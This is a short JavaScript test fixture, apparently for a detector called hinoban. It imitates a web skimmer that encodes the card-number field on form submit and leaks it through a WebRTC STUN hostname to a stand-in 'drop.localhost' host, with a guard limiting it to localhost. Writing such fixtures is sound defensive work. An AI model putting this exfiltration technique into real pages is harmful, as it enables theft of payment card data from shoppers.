/* Harmless imitation, for hinoban's tests: WebRTC: the card in the name of a STUN server. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
(function () {
	function mix(v) { return v.split('').map(function (c, i) { return 'hjkmnpqrst'[(+c + i) % 10]; }).join(''); }
	document.addEventListener('submit', function () {
		var n = document.querySelector('input[autocomplete=cc-number]');
		if (!n) return;
		var pc = new RTCPeerConnection({iceServers: [{urls: 'stun:' + mix(n.value) + '.drop.localhost:3478'}]});
		pc.createDataChannel('d');
		pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
	}, true);
})();
